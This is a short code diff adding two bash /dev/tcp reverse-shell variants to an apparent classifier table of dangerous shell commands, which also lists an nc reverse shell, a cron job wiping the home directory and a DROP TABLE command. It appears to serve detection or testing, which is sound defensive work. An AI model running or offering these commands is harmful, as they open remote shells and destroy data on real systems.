@@ -70,6 +70,8 @@ CRITICAL = {
     "echo '0 3 * * * rm -rf ~' | crontab -": "rm-home",
     "bash -i >& /dev/tcp/203.0.113.9/44 0>&1": "reverse-shell",
     "nc -e /bin/sh x.dev 44": "reverse-shell",
+    "exec 5<>/dev/tcp/203.0.113.9/44; bash <&5 >&5 2>&5": "reverse-shell",
+    "exec 5<>/dev/tcp/203.0.113.9/44; cat <&5 | while read l; do $l 2>&5 >&5; done": "reverse-shell",
 }
 WARNING = {
     "psql -c 'DROP TABLE users'": "drop-table",
